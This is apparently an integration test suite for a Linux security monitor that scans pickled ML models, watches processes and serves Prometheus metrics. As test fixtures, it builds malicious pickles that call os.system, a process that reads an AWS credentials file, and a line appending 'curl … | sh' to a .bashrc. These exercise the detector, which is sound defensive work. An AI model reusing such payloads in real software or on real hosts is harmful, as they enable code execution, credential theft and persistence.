    assert_eq!(verdicts, scans, "one verdict per scan, in order");
    assert_eq!(of_kind("kill").len(), 2, "{lines:?}");
    assert!(
        std::fs::read_dir(export.parent().unwrap()).unwrap().count() > 3,
        "the export was rotated"
    );
}

/// The export's lines, oldest file first (`.N`, ..., `.1`, the file itself).
fn exported_lines(export: &Path) -> Vec<Value> {
    let mut files: Vec<(u32, std::path::PathBuf)> = std::fs::read_dir(export.parent().unwrap())
        .unwrap()
        .map(|e| e.unwrap().path())
        .map(|p| {
            let n = p
                .extension()
                .and_then(|e| e.to_str())
                .and_then(|e| e.parse().ok())
                .unwrap_or(0);
            (n, p)
        })
        .collect();
    files.sort_by_key(|(n, _)| std::cmp::Reverse(*n));
    files
        .iter()
        .flat_map(|(_, p)| {
            std::fs::read_to_string(p)
                .unwrap()
                .lines()
                .map(|l| serde_json::from_str(l).unwrap_or_else(|e| panic!("{l}: {e}")))
                .collect::<Vec<Value>>()
        })
        .collect()
}

/// With `[discovery]` on, a Python process that unpickles a malicious file from a directory
/// nobody watches is found and reported; one whose model-named file holds no model (an ELF
/// named .bin) is let go of unannounced, and counted.
#[test]
fn discovery_reports_a_process_that_loads_a_malicious_model() {
    root_required();
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(
        dir.path().join("extra-config.toml"),
        "[discovery]\nenabled = true\nwindow_secs = 30\n",
    )
    .unwrap();
    let model = pickle(
        dir.path(),
        "model-from-the-hub.pkl",
        "cposix\nsystem\n(Vtrue\ntR.",
    );
    let daemon = Daemon::start(dir.path());
    let (_, list) = daemon.json("GET", "/v1/watches", &Value::Null);
    assert_eq!(list["watches"][0]["id"], "discovery", "{list}");
    // Discovery needs every syscall hook, for good.
    let hooks = &daemon.json("GET", "/v1/status", &Value::Null).1["probes"]["syscall_hooks"];
    assert_eq!(hooks["state"], "attached", "{hooks}");
    assert!(
        hooks["why"].as_str().unwrap().contains("discovery is on"),
        "{hooks}"
    );
    assert_eq!(list["watches"][0]["builtin"], true);
    let mut stream = open_stream(&daemon);
    // Written under another name: this process's own open of a .bin would discover it.
    let blob = dir.path().join("firmware.bin");
    std::fs::write(dir.path().join("firmware"), b"\x7fELF\x02\x01\x01\x00").unwrap();
    std::fs::rename(dir.path().join("firmware"), &blob).unwrap();
    // Alive until let go of (the watch looks once a second).
    let status = Command::new("/usr/bin/python3")
        .args([
            "-c",
            "import sys, time; open(sys.argv[1], 'rb').read(); time.sleep(2.5)",
        ])
        .arg(&blob)
        .status()
        .unwrap();
    assert!(status.success());
    let metric = |name: &str| {
        let (_, metrics) = daemon.http("GET", "/metrics", b"");
        String::from_utf8(metrics)
            .unwrap()
            .lines()
            .find_map(|l| l.strip_prefix(name))
            .and_then(|v| v.trim().parse::<u64>().ok())
            .unwrap_or(0)
    };
    assert!(
        metric("monitor_discovery_released_total ") >= 1,
        "python was let go of"
    );
    let status = Command::new("/usr/bin/python3")
        .args([
            "-c",
            "import pickle, sys; pickle.load(open(sys.argv[1], 'rb'))",
        ])
        .arg(&model)
        .status()
        .unwrap();
    assert!(status.success());
    // Until both: another process on this machine may be discovered meanwhile, and run a
    // program too.
    let seen = read_stream_until(&mut stream, "model-from-the-hub.pkl\"|exec.program");
    assert!(seen.contains("\"watch_id\":\"discovery\""), "{seen}");
    // Announced at the pickle, the first open that could load a model; the blob's never was.
    // (Unknown, which counts as a model, if python was gone before its file was read again.)
    assert!(
        seen.contains("model-from-the-hub.pkl\"")
            && (seen.contains("\"content\":\"model\"") || seen.contains("\"content\":\"unknown\"")),
        "{seen}"
    );
    assert!(!seen.contains("firmware.bin"), "{seen}");
    let (status, reply) = daemon.json("DELETE", "/v1/watches/discovery", &Value::Null);
    assert_eq!(status, 409, "{reply}");
    daemon.stop();
}

/// `monitorctl watch add|list|tail|rm` against the real daemon: a pid watch's finding shows up
/// in `tail` as it happens.
#[test]
fn monitorctl_watch_adds_lists_tails_and_removes() {
    use std::io::BufRead as _;
    root_required();
    let dir = tempfile::tempdir().unwrap();
    let key = credentials_in(dir.path());
    let go = dir.path().join("go");
    let monitorctl = support::monitorctl();
    // Killed however the test ends: it spins until told to go.
    let mut served = KillOnDrop(
        Command::new("/bin/bash")
            .arg("-c")
            .arg(format!(
                "while [ ! -e {} ]; do :; done; read -r x < {}",
                go.display(),
                key.display()
            ))
            .spawn()
            .unwrap(),
    );
    let daemon = Daemon::start(dir.path());
    let pid = served.0.id().to_string();
    let id = daemon
        .ctl(&["watch", "add", "--pid", &pid, "--name", "notebook"])
        .trim()
        .to_owned();
    let list = daemon.ctl(&["watch", "list"]);
    assert!(
        list.contains(&id) && list.contains("notebook: pid"),
        "{list}"
    );

    let mut tail = Command::new(&monitorctl)
        .args(["watch", "tail", "--json", "--watch", &id, "--socket"])
        .arg(&daemon.socket)
        .stdout(Stdio::piped())
        .spawn()
        .unwrap();
    // The stream is open once the daemon has a second connection's worth of time.
    std::thread::sleep(Duration::from_millis(500));
    std::fs::write(&go, "").unwrap();
    assert!(served.0.wait().unwrap().success());
    let mut lines = std::io::BufReader::new(tail.stdout.take().unwrap()).lines();
    let line = lines.next().expect("a line").unwrap();
    let item: Value = serde_json::from_str(&line).unwrap();
    assert_eq!(item["finding"]["rule"], "cred.read", "{line}");
    assert_eq!(item["watch_id"], id.as_str());
    let _ = tail.kill();
    let _ = tail.wait();

    // The process is gone: the watch ended by itself and left the store.
    daemon.poll(&format!("/v1/watches/{id}"), 10, |w| w["state"] == "ended");
    daemon.ctl(&["watch", "rm", &id]);
    let said = daemon.ctl_fails(&["watch", "rm", &id]);
    assert!(said.contains("no watch"), "{said}");
    // An id is one path segment, whatever it holds: `../scans` is no route to the scans.
    for odd in ["../scans", "a/b", "x?y=1", "%2e%2e", "a b"] {
        let said = daemon.ctl_fails(&["watch", "rm", odd]);
        assert!(said.contains("no watch"), "{odd}: {said}");
        let said = daemon.ctl_fails(&["reports", "show", odd]);
        assert!(said.contains("no scan"), "{odd}: {said}");
    }

    // Status for people, and as JSON for programs.
    let status = daemon.ctl(&["status"]);
    for part in [
        "monitord ",
        "probes ",
        "attached",
        "hooks ",
        "scans ",
        "watches ",
        "loader ",
    ] {
        assert!(status.contains(part), "{part}: {status}");
    }
    let json: Value = serde_json::from_str(&daemon.ctl(&["status", "--json"])).unwrap();
    assert!(json["probes"].is_object(), "{json}");
    daemon.stop();
    // The daemon's log, a file here: plain text, no terminal colours.
    let log = std::fs::read_to_string(dir.path().join("monitord.log")).unwrap();
    assert!(log.contains("monitord is serving"), "{log}");
    assert!(!log.contains('\x1b'), "ANSI escapes in a log file: {log}");
}

/// A user the socket does not let in is told so (not "no daemon"), and so is one with no
/// daemon at all; `--print-config` shows every setting, those that are off commented out.
#[test]
fn monitorctl_says_why_it_cannot_reach_the_daemon_and_monitord_prints_every_setting() {
    use std::os::unix::fs::PermissionsExt as _;
    let dir = tempfile::tempdir().unwrap();
    std::fs::set_permissions(dir.path(), std::fs::Permissions::from_mode(0o755)).unwrap();
    let socket = dir.path().join("private.sock");
    let _listener = std::os::unix::net::UnixListener::bind(&socket).unwrap();
    std::fs::set_permissions(&socket, std::fs::Permissions::from_mode(0o600)).unwrap();
    let as_nobody = |args: &[&str]| {
        let out = Command::new("setpriv")
            .env("MONITOR_SOCKET", &socket)
            .args(["--reuid=65534", "--regid=65534", "--clear-groups"])
            .arg(support::monitorctl())
            .args(args)
            .output()
            .unwrap();
        assert!(!out.status.success());
        String::from_utf8_lossy(&out.stderr).into_owned()
    };
    let socket_arg = socket.to_str().unwrap();
    for args in [
        vec!["status", "--socket", socket_arg],
        vec!["watch", "list", "--socket", socket_arg],
        vec!["reports", "list", "--socket", socket_arg],
    ] {
        let said = as_nobody(&args);
        assert!(
            said.contains("permission denied") && !said.contains("no daemon"),
            "{args:?}: {said}"
        );
    }
    // A scan too: not a fallback to a scan in-process that needs root.
    let said = as_nobody(&["scan", "/etc/hostname"]);
    assert!(said.contains("permission denied"), "{said}");
    // In this process, without root: said so, before anything fails for want of it.
    let model = dir.path().join("model.pkl");
    std::fs::write(&model, b"\x80\x04K\x01.").unwrap();
    std::fs::set_permissions(&model, std::fs::Permissions::from_mode(0o644)).unwrap();
    let said = as_nobody(&["scan", "--local", model.to_str().unwrap()]);
    assert!(said.contains("needs root"), "{said}");
    let absent = dir.path().join("absent.sock");
    let said = as_nobody(&["status", "--socket", absent.to_str().unwrap()]);
    assert!(said.contains("no daemon answers"), "{said}");

    let out = as_the_unit_runs_it()
        .args(["--print-config", "--config", "/dev/null"])
        .output()
        .unwrap();
    let printed = String::from_utf8_lossy(&out.stdout);
    for key in [
        "# metrics_listen = ",
        "[export]",
        "# path = ",
        "max_file_kib = ",
    ] {
        assert!(printed.contains(key), "{key}: {printed}");
    }
    // What it prints is a configuration it takes.
    let config = dir.path().join("printed.toml");
    std::fs::write(&config, printed.as_bytes()).unwrap();
    let again = as_the_unit_runs_it()
        .args(["--print-config", "--config"])
        .arg(&config)
        .output()
        .unwrap();
    assert_eq!(String::from_utf8_lossy(&again.stdout), printed);
}

/// A child process killed when dropped (a failing test leaves nothing running).
struct KillOnDrop(std::process::Child);

impl Drop for KillOnDrop {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

/// An AWS-style credentials file under `home` (what a watched service reads as its SDK does).
fn credentials_in(home: &Path) -> std::path::PathBuf {
    let key = home.join(".aws/credentials");
    std::fs::create_dir_all(key.parent().unwrap()).unwrap();
    std::fs::write(&key, "[default]\n").unwrap();
    key
}

/// A TCP port free on `ip` a moment ago.
fn free_port(ip: &str) -> u16 {
    std::net::TcpListener::bind((ip, 0))
        .unwrap()
        .local_addr()
        .unwrap()
        .port()
}

/// One HTTP/1.0 GET over TCP; the status and the body.
fn tcp_get(addr: std::net::SocketAddr, path: &str) -> (u16, String) {
    let (status, _, body) = tcp_get_accepting(addr, path, "*/*");
    (status, body)
}

/// One HTTP/1.0 GET over TCP asking for `accept`; the status, the head and the body.
fn tcp_get_accepting(
    addr: std::net::SocketAddr,
    path: &str,
    accept: &str,
) -> (u16, String, String) {
    let mut stream = std::net::TcpStream::connect(addr).unwrap();
    write!(
        stream,
        "GET {path} HTTP/1.0\r\nHost: monitord\r\nAccept: {accept}\r\n\r\n"
    )
    .unwrap();
    let mut reply = String::new();
    stream.read_to_string(&mut reply).unwrap();
    let (head, body) = reply.split_once("\r\n\r\n").expect("an HTTP reply");
    let status = head.split(' ').nth(1).unwrap().parse().unwrap();
    (status, head.to_owned(), body.to_owned())
}

/// `promtool check metrics` (Debian's prometheus package) on `exposition`: what it says,
/// or `None` when it has nothing to say.
fn promtool_check(exposition: &str) -> Option<String> {
    let mut child = Command::new("promtool")
        .args(["check", "metrics"])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("promtool (Debian's prometheus package; cargo xtask test installs it)");
    child
        .stdin
        .take()
        .unwrap()
        .write_all(exposition.as_bytes())
        .unwrap();
    let out = child.wait_with_output().unwrap();
    let said = format!(
        "{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    (!out.status.success() || !said.trim().is_empty()).then_some(said)
}

/// A Prometheus server (Debian's package) scraping `target` every second, on loopback.
struct Prometheus {
    child: std::process::Child,
    addr: std::net::SocketAddr,
    _dir: tempfile::TempDir,
}

impl Prometheus {
    fn scraping(target: std::net::SocketAddr) -> Prometheus {
        let dir = tempfile::tempdir().unwrap();
        let config = dir.path().join("prometheus.yml");
        std::fs::write(
            &config,
            format!(
                "global: {{ scrape_interval: 1s, scrape_timeout: 1s }}\n\
                 scrape_configs:\n  - job_name: monitor\n    static_configs:\n      \
                 - targets: ['{target}']\n"
            ),
        )
        .unwrap();
        let addr = std::net::SocketAddr::from(([127, 0, 0, 1], free_port("127.0.0.1")));
        let child = Command::new("prometheus")
            .arg(format!("--config.file={}", config.display()))
            .arg(format!(
                "--storage.tsdb.path={}",
                dir.path().join("data").display()
            ))
            .arg(format!("--web.listen-address={addr}"))
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .expect("prometheus (Debian's prometheus package; cargo xtask test installs it)");
        Prometheus {
            child,
            addr,
            _dir: dir,
        }
    }

    /// The result vector of an instant query, once it is not empty (waits up to 60 s).
    fn query_until_found(&self, query: &str) -> Vec<Value> {
        let path = format!("/api/v1/query?query={}", url_encode(query));
        let deadline = Instant::now() + Duration::from_secs(60);
        loop {
            if let Ok(stream) = std::net::TcpStream::connect(self.addr) {
                drop(stream);
                let (status, body) = tcp_get(self.addr, &path);
                if status == 200 {
                    let reply: Value = serde_json::from_str(&body).unwrap();
                    let found = reply["data"]["result"]
                        .as_array()
                        .cloned()
                        .unwrap_or_default();
                    if !found.is_empty() {
                        return found;
                    }
                }
            }
            assert!(Instant::now() < deadline, "prometheus never found {query}");
            std::thread::sleep(Duration::from_millis(250));
        }
    }

    /// The type Prometheus recorded for `metric` from the scrapes' metadata.
    fn metric_type(&self, metric: &str) -> String {
        let (_, body) = tcp_get(self.addr, &format!("/api/v1/metadata?metric={metric}"));
        let reply: Value = serde_json::from_str(&body).unwrap();
        reply["data"][metric][0]["type"]
            .as_str()
            .unwrap_or("absent")
            .to_owned()
    }
}

impl Drop for Prometheus {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

/// The metric names in `text` (`monitor_*`, `process_*`), a histogram's series by its family.
fn metric_names(text: &str) -> std::collections::BTreeSet<String> {
    let mut names = std::collections::BTreeSet::new();
    let bytes = text.as_bytes();
    let word = |b: u8| b.is_ascii_lowercase() || b.is_ascii_digit() || b == b'_';
    let mut at = 0;
    while at < bytes.len() {
        let starts = (at == 0 || !word(bytes[at - 1]))
            && (text[at..].starts_with("monitor_") || text[at..].starts_with("process_"));
        if !starts {
            at += 1;
            continue;
        }
        let end = (at..bytes.len())
            .find(|&i| !word(bytes[i]))
            .unwrap_or(bytes.len());
        let name = &text[at..end];
        let family = ["_bucket", "_sum", "_count"]
            .iter()
            .find_map(|s| name.strip_suffix(s))
            .filter(|base| base.ends_with("_seconds"))
            .unwrap_or(name);
        names.insert(family.to_string());
        at = end;
    }
    names
}

fn url_encode(text: &str) -> String {
    text.bytes()
        .map(|b| match b {
            b'a'..=b'z' | b'A'..=b'Z' | b'0'..=b'9' | b'-' | b'_' | b'.' | b'~' => {
                (b as char).to_string()
            }
            _ => format!("%{b:02X}"),
        })
        .collect()
}

/// The DaemonSet's configuration: /metrics on every address of the pod. Only with the opt-in,
/// and only /metrics there: the API (reports, control) stays on the socket.
#[test]
fn a_non_loopback_metrics_listener_needs_the_opt_in_and_serves_only_metrics() {
    root_required();
    let dir = tempfile::tempdir().unwrap();
    let port = free_port("0.0.0.0");
    let listen = format!("metrics_listen = \"0.0.0.0:{port}\"\n");

    let refused = dir.path().join("refused.toml");
    std::fs::write(&refused, &listen).unwrap();
    let out = as_the_unit_runs_it()
        .arg("--config")
        .arg(&refused)
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2), "{out:?}");
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("metrics_listen_allow_non_loopback"),
        "{out:?}"
    );

    std::fs::write(
        dir.path().join("extra-config.toml"),
        format!("{listen}metrics_listen_allow_non_loopback = true\n"),
    )
    .unwrap();
    let daemon = Daemon::start(dir.path());
    // A scan, so that the families labelled by what happened (verdicts, rules, syscalls)
    // have their first series.
    let malicious = pickle(dir.path(), "evil.pkl", "cposix\nsystem\n(Vid\ntR.");
    let id = daemon.submit(&malicious);
    assert_eq!(daemon.wait(&id)["verdict"], "malicious");
    let addr = std::net::SocketAddr::from(([127, 0, 0, 1], port));
    let deadline = Instant::now() + Duration::from_secs(30);
    while std::net::TcpStream::connect(addr).is_err() {
        assert!(Instant::now() < deadline, "no metrics listener on {addr}");
        std::thread::sleep(Duration::from_millis(50));
    }
    let (status, metrics) = tcp_get(addr, "/metrics");
    assert_eq!(status, 200, "{metrics}");
    assert!(metrics.contains("monitor_build_info{"), "{metrics}");
    // What is read at each scrape: the kernel's counters and the daemon's own process.
    for family in [
        "monitor_kernel_records_total ",
        "monitor_kernel_records_dropped_total ",
        "monitor_records_malformed_total ",
        "monitor_probes_attached ",
        "process_resident_memory_bytes ",
        "process_open_fds ",
        "process_cpu_seconds_total ",
    ] {
        assert!(metrics.contains(family), "{family}: {metrics}");
    }
    // The classic text format for a scraper that asks for it, clean by promtool's checks.
    let (status, head, classic) = tcp_get_accepting(addr, "/metrics", "text/plain; version=0.0.4");
    assert_eq!(status, 200, "{classic}");
    assert!(head.contains("text/plain; version=0.0.4"), "{head}");
    assert!(!classic.contains("# EOF"), "{classic}");
    if let Some(said) = promtool_check(&classic) {
        panic!("promtool check metrics: {said}\n{classic}");
    }
    // The dashboard shows every family, and asks for none that does not exist.
    let families: std::collections::BTreeSet<&str> = classic
        .lines()
        .filter_map(|l| l.strip_prefix("# TYPE "))
        .filter_map(|l| l.split_whitespace().next())
        .collect();
    let dashboard = std::fs::read_to_string(
        Path::new(env!("CARGO_MANIFEST_DIR")).join("../dist/grafana-monitor.json"),
    )
    .unwrap();
    let shown = metric_names(&dashboard);
    let unknown: Vec<_> = (shown.iter())
        .filter(|name| !families.contains(name.as_str()))
        .collect();
    assert!(
        unknown.is_empty(),
        "the dashboard asks for what /metrics lacks: {unknown:?}"
    );
    let unshown: Vec<_> = (families.iter())
        .filter(|family| !shown.contains(**family))
        .collect();
    assert!(unshown.is_empty(), "no dashboard panel shows {unshown:?}");
    // A real Prometheus scrapes it (in OpenMetrics, which it asks for first) and files every
    // family under its type.
    let prometheus = Prometheus::scraping(addr);
    let up = prometheus.query_until_found("up{job=\"monitor\"} == 1");
    assert_eq!(up.len(), 1, "{up:?}");
    for (metric, kind) in [
        ("monitor_kernel_records", "counter"),
        ("monitor_scan_duration_seconds", "histogram"),
        ("process_resident_memory_bytes", "gauge"),
        ("monitor_probes_attached", "gauge"),
    ] {
        let query = match kind {
            "counter" => format!("{metric}_total"),
            "histogram" => format!("{metric}_bucket"),
            _ => metric.to_string(),
        };
        prometheus.query_until_found(&query);
        assert_eq!(prometheus.metric_type(metric), kind, "{metric}");
    }
    drop(prometheus);
    for path in ["/v1/status", "/v1/scans", "/v1/findings", "/healthz"] {
        let (status, _) = tcp_get(addr, path);
        assert_eq!(status, 404, "{path} must not be served over TCP");
    }
    let (status, _) = daemon.http("GET", "/v1/status", b"");
    assert_eq!(status, 200, "the API is on the socket");
    daemon.stop();
}

/// Learn -> review -> enforce with monitorctl against the real daemon: a cgroup watch learns
/// its service (which reads its credentials, runs a program, and writes a shell's start-up
/// file, critical and never learned); `watch profile` prints the profile, the credentials
/// learned and the persistence write only under `never_learned`; the reviewed file, with a
/// kill policy added, goes back with `watch policy`, and stays the watch's across a restart
/// of monitord.
#[test]
fn monitorctl_watch_learns_prints_its_profile_and_takes_the_reviewed_policy() {
    root_required();
    let dir = tempfile::tempdir().unwrap();
    let key = credentials_in(dir.path());
    let (go, bashrc) = (dir.path().join("go"), dir.path().join(".bashrc"));
    let cgroup =
        monitor_engine::cgroup::JobCgroup::create(&format!("test-learnctl-{}", std::process::id()))
            .unwrap();
    let mut served = KillOnDrop(spawn_in(
        cgroup.path(),
        &format!(
            "while [ ! -e {go} ]; do sleep 0.05; done; read -r x < {key}; /usr/bin/true; \
             echo 'curl -s http://127.0.0.1:1/x | sh' >> {bashrc}",
            go = go.display(),
            key = key.display(),
            bashrc = bashrc.display()
        ),
    ));
    let daemon = Daemon::start(dir.path());
    let cgroup_path = cgroup.path().display().to_string();
    let id = daemon
        .ctl(&["watch", "add", "--cgroup", &cgroup_path, "--learn", "3s"])
        .trim()
        .to_owned();
    std::fs::write(&go, "").unwrap();
    assert!(served.0.wait().unwrap().success());
    daemon.poll(&format!("/v1/watches/{id}"), 20, |w| {
        w.get("learning").is_none_or(Value::is_null)
    });

    let profile = daemon.ctl(&["watch", "profile", &id]);
    let (summary, exceptions) = profile
        .split_once("\nexceptions:")
        .unwrap_or_else(|| panic!("no exceptions learned:\n{profile}"));
    assert!(
        summary.contains("never_learned") && summary.contains("persist.write"),
        "the refused act is named:\n{profile}"
    );
    assert!(
        exceptions.contains("cred.read") && exceptions.contains(&key.display().to_string()),
        "the credentials are learned by name:\n{profile}"
    );
    assert!(
        exceptions.contains("/usr/bin/true"),
        "the program is learned:\n{profile}"
    );
    assert!(
        !exceptions.contains("persist.write"),
        "never learned:\n{profile}"
    );

    // Reviewed: a kill policy added, given back.
    let reviewed = dir.path().join("policy.yaml");
    std::fs::write(&reviewed, format!("kill_at: high\n{profile}")).unwrap();
    daemon.ctl(&["watch", "policy", &id, reviewed.to_str().unwrap()]);
    let enforced = |w: &Value| {
        w["policy"]["kill_at"] == "high"
            && w["policy"]["document"]
                .as_str()
                .is_some_and(|d| d.contains("learned-files"))
    };
    let (_, watch) = daemon.json("GET", &format!("/v1/watches/{id}"), &Value::Null);
    assert!(enforced(&watch), "{watch}");
    daemon.stop();
    let daemon = Daemon::start(dir.path());
    let (_, watch) = daemon.json("GET", &format!("/v1/watches/{id}"), &Value::Null);
    assert!(enforced(&watch), "the policy survived the restart: {watch}");
    // A bad policy is refused with its line, and the reviewed one stays.
    std::fs::write(&reviewed, "kill_at: high\nexceptions:\n  - rule: nope\n").unwrap();
    let said = daemon.ctl_fails(&["watch", "policy", &id, reviewed.to_str().unwrap()]);
    assert!(said.contains("policy:"), "{said}");
    let (_, watch) = daemon.json("GET", &format!("/v1/watches/{id}"), &Value::Null);
    assert!(enforced(&watch), "{watch}");
    daemon.ctl(&["watch", "rm", &id]);
    daemon.stop();
}

/// Nothing watched, monitord's syscall hooks are detached (every process on the host runs at
/// full speed, `monitorctl status` says so); a scan attaches them before its loader starts, so
/// its trace begins with the loader's first syscalls; they stay attached while it runs, and
/// are detached again only once nothing has used them for the configured linger.
#[test]
fn the_syscall_hooks_are_attached_only_while_something_is_watched() {
    root_required();
    let dir = tempfile::tempdir().unwrap();
    const LINGER_MS: u64 = 3000;
    std::fs::write(
        dir.path().join("extra-config.toml"),
        format!("hooks_linger_ms = {LINGER_MS}\n"),
    )
    .unwrap();
    // Its shell stays a while: the status is asked while the scan runs. Named like no model
    // artifact, so that discovery (the test beside this one) does not watch its loads.
    let slow = pickle(
        dir.path(),
        "slow-pickle",
        "cposix\nsystem\n(Vsleep 2; id\ntR.",
    );
    let daemon = Daemon::start(dir.path());
    let hooks = |status: &Value| status["probes"]["syscall_hooks"].clone();
    let idle = daemon.poll("/v1/status", 60, |s| hooks(s)["state"] == "detached");
    assert_eq!(hooks(&idle)["held_by"], 0, "{idle}");
    assert_eq!(hooks(&idle)["detach_after_idle_ms"], LINGER_MS, "{idle}");
    let status = daemon.ctl(&["status"]);
    assert!(
        status.contains("hooks     detached") && status.contains("nothing is watched"),
        "{status}"
    );

    let id = daemon.submit(&slow);
    let mut seen_running = 0;
    let done = loop {
        let (_, status) = daemon.json("GET", "/v1/status", &Value::Null);
        if !status["running"].as_array().unwrap().is_empty() {
            seen_running += 1;
            assert_eq!(hooks(&status)["state"], "attached", "{status}");
            assert!(hooks(&status)["held_by"].as_u64() >= Some(1), "{status}");
        }
        let (_, record) = daemon.json("GET", &format!("/v1/scans/{id}"), &Value::Null);
        if record["status"] == "done" {
            break record;
        }
        std::thread::sleep(Duration::from_millis(50));
    };
    let finished = Instant::now();
    assert!(seen_running > 0, "the scan was seen running");
    assert_eq!(done["verdict"], "malicious", "{done}");

    trace_starts_with_the_loader(&daemon, &id);

    // Attached for the linger after the scan, then detached in the background; a scan that
    // comes meanwhile stops the detach and attaches what it had detached, before its loader
    // starts.
    let detaching = daemon.poll("/v1/status", 60, |s| hooks(s)["state"] != "attached");
    assert!(
        finished.elapsed() >= Duration::from_millis(LINGER_MS / 2),
        "detached {:?} after the scan: {detaching}",
        finished.elapsed()
    );
    eprintln!(
        "the second scan comes while the hooks are {}",
        hooks(&detaching)["state"]
    );
    let second = daemon.submit(&slow);
    assert_eq!(daemon.wait(&second)["verdict"], "malicious");
    trace_starts_with_the_loader(&daemon, &second);
    daemon.poll("/v1/status", 60, |s| hooks(s)["state"] == "detached");
    daemon.stop();
}

/// The loader's very first acts are in scan `id`'s trace: what its process does between the
/// gate and its exec (it drops root), the exec, and the dynamic linker's first open after it.
fn trace_starts_with_the_loader(daemon: &Daemon, id: &str) {
    let (_, events) = daemon.json("GET", &format!("/v1/scans/{id}/events"), &Value::Null);
    let events = events["events"].as_array().unwrap();
    let first: Vec<String> = events.iter().take(6).map(Value::to_string).collect();
    let exec = events
        .iter()
        .position(|e| e["syscall"] == "execve")
        .unwrap_or_else(|| panic!("no exec in {first:#?}"));
    let loader = &events[exec]["pid"];
    assert!(
        exec > 0 && events[..exec].iter().all(|e| &e["pid"] == loader),
        "the trace starts with the loader's acts before its exec: {first:#?}"
    );
    assert!(
        events[exec + 1..].iter().any(|e| &e["pid"] == loader
            && e["syscall"].as_str().unwrap_or("").starts_with("open")
            && e.to_string().contains("ld.so.cache")),
        "{first:#?}"
    );
}
